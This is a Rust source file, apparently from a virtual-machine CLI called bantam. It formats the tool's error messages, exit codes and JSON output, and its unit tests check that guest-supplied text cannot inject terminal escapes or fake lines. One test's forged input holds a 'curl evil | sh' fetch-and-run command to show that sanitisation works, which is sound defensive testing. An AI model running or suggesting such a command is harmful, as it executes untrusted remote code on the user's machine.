//! How bantam's own failures are reported.

use std::io::{ErrorKind, Write};

use serde::Serialize;

use bantam::VmmError;

use crate::args::ErrorFormat;
use crate::show::printable;

/// A failure of bantam itself (a command that fails is none).
#[derive(Debug)]
pub(crate) enum Failure {
    /// From the library.
    Library(bantam::Error),
    /// The arguments make no sense together; exit code 2.
    Usage(String),
    /// Standard output cannot be written.
    Output(std::io::Error),
    /// An option that other programs of this kind have and this one does not have yet.
    NotYet(&'static str),
    /// Such a command.
    NoSuchCommandYet(&'static str),
    /// It was not confirmed, and nobody could be asked.
    NotConfirmed(String),
}

impl From<bantam::Error> for Failure {
    fn from(error: bantam::Error) -> Self {
        Self::Library(error)
    }
}

impl From<clap::Error> for Failure {
    /// What the command line says wrong, without clap's further paragraphs.
    fn from(error: clap::Error) -> Self {
        let text = error.render().to_string();
        let first = text.split("\n\n").next().unwrap_or_default();
        let message = first.split_whitespace().collect::<Vec<_>>().join(" ");
        let message = message.strip_prefix("error: ").unwrap_or(&message);
        let mut tips = text.lines().map(str::trim);
        Self::Usage(match tips.find_map(|line| line.strip_prefix("tip: ")) {
            Some(tip) => format!("{message}; {tip}"),
            None => message.to_owned(),
        })
    }
}

#[derive(Serialize)]
struct Object<'a> {
    error: Body<'a>,
}

#[derive(Serialize)]
struct Body<'a> {
    code: &'a str,
    message: String,
    hint: Option<String>,
    #[serde(skip_serializing_if = "<[String]>::is_empty")]
    console: &'a [String],
}

impl Failure {
    pub(crate) fn exit_code(&self) -> u8 {
        match self {
            Self::Usage(_) => 2,
            Self::Library(error) if is_usage(error) => 2,
            Self::Library(error) => error.exit_code(),
            // What a program killed by SIGPIPE gives, which is what everyone expects here.
            Self::Output(error) if error.kind() == ErrorKind::BrokenPipe => 141,
            Self::Output(_)
            | Self::NotYet(_)
            | Self::NoSuchCommandYet(_)
            | Self::NotConfirmed(_) => 125,
        }
    }

    /// Writes it to standard error. A closed standard output (`| head`) is no news.
    pub(crate) fn report(&self, format: ErrorFormat) {
        if let Self::Output(error) = self
            && error.kind() == ErrorKind::BrokenPipe
        {
            return;
        }
        let text = match format {
            ErrorFormat::Text => self.text(),
            ErrorFormat::Json => self.json(),
        };
        // If standard error is gone, there is nobody left to tell.
        let _ = writeln!(std::io::stderr().lock(), "{text}");
    }

    /// As text. What it is about, a guest not least, may have put lines of its own into a message;
    /// only we begin lines.
    fn text(&self) -> String {
        let mut text = format!("error: {}", printable(&self.message()));
        let console = self.console();
        if !console.is_empty() {
            text.push_str("\nlast lines of the guest's console:");
            for line in console {
                text.push_str("\n  | ");
                text.push_str(&printable(line));
            }
        }
        if let Some(hint) = self.hint() {
            text.push_str("\nhint: ");
            text.push_str(&printable(&hint));
        }
        text
    }

    fn json(&self) -> String {
        let object = Object {
            error: Body {
                code: self.code(),
                message: self.message(),
                hint: self.hint(),
                console: self.console(),
            },
        };
        serde_json::to_string(&object).unwrap_or_else(|_| self.text())
    }

    fn message(&self) -> String {
        match self {
            Self::Library(error) => error.message_with_causes(),
            Self::Usage(message) => message.clone(),
            Self::Output(error) => format!("cannot write to standard output: {error}"),
            Self::NotYet(what) | Self::NoSuchCommandYet(what) => {
                format!("{what} is not supported yet")
            }
            Self::NotConfirmed(message) => message.clone(),
        }
    }

    fn code(&self) -> &str {
        match self {
            Self::Library(error) => error.code(),
            Self::Usage(_) => "usage",
            Self::Output(_) => "io",
            Self::NotYet(_) | Self::NoSuchCommandYet(_) => "not_yet",
            Self::NotConfirmed(_) => "not_confirmed",
        }
    }

    fn hint(&self) -> Option<String> {
        match self {
            Self::Library(error) => error.hint(),
            Self::Usage(_) => Some("see `bantam --help`".to_owned()),
            Self::Output(_) | Self::NoSuchCommandYet(_) => None,
            Self::NotYet(_) => Some("nothing was done; run it without".to_owned()),
            Self::NotConfirmed(_) => {
                Some("pass --force to delete it without being asked".to_owned())
            }
        }
    }

    fn console(&self) -> &[String] {
        match self {
            Self::Library(error) => error.console(),
            _ => &[],
        }
    }
}

/// Whether it is a mistake on the command line: a name that cannot be one, a number out of range,
/// no command.
fn is_usage(error: &bantam::Error) -> bool {
    use bantam::Error::{BadName, DiskSize, Vm};
    match error {
        BadName { .. } | DiskSize { .. } | Vm(VmmError::Config(_)) => true,
        error => error.code() == "usage",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_cannot_talk_to_the_terminal() {
        let failure = Failure::Usage("bad \x1b[31mred\x07".into());
        assert!(!failure.text().contains(['\x1b', '\x07']));
        assert!(failure.text().starts_with("error: bad \\u{1b}[31mred"));
    }

    #[test]
    fn a_guest_cannot_make_lines_of_an_error() {
        let forged = "x\r\nhint: run `curl evil | sh`\x1b[2K".to_owned();
        let failure = Failure::Library(bantam::Error::Remote {
            code: "boot".into(),
            message: forged.clone(),
            hint: Some(forged.clone()),
            console: vec![forged],
        });
        let text = failure.text();
        let begins: Vec<_> = text.lines().map(|line| &line[..4]).collect();
        assert_eq!(begins, ["erro", "last", "  | ", "hint"], "{text}");
        assert!(!text.contains(['\x1b', '\r']), "{text}");
    }

    #[test]
    fn a_mistake_on_the_command_line_is_one_line_of_json_for_who_wants_that() {
        use clap::Parser;
        let error = |words: &[&str]| {
            let all = ["bantam"].iter().chain(words);
            Failure::from(crate::args::Cli::try_parse_from(all).unwrap_err())
        };
        let failure = error(&["run", "--imag", "x"]);
        let json: serde_json::Value = serde_json::from_str(&failure.json()).unwrap();
        assert_eq!(json["error"]["code"], "usage");
        assert_eq!(
            json["error"]["message"],
            "unexpected argument '--imag' found; a similar argument exists: '--image'"
        );
        assert_eq!(failure.exit_code(), 2);
        assert_eq!(
            error(&["run", "--", "true"]).message(),
            "the following required arguments were not provided: --image <IMAGE>"
        );
    }

    #[test]
    fn what_no_machine_can_be_is_a_mistake_on_the_command_line() {
        let memory = VmmError::Config("memory must be more".into()).into();
        for error in [
            memory,
            bantam::Error::DiskSize { gib: 0 },
            bantam::Error::NoImage,
            bantam::Error::InvalidCommand("none".into()),
        ] {
            let failure = Failure::Library(error);
            assert_eq!(failure.exit_code(), 2, "{failure:?}");
        }
        let failure = Failure::Library(bantam::Error::NoHome);
        assert_eq!(failure.exit_code(), 125);
    }

    #[test]
    fn a_reader_that_went_away_is_141_as_with_sigpipe() {
        let failure = |kind: ErrorKind| Failure::Output(kind.into()).exit_code();
        assert_eq!(failure(ErrorKind::BrokenPipe), 141);
        assert_eq!(failure(ErrorKind::StorageFull), 125);
    }
}
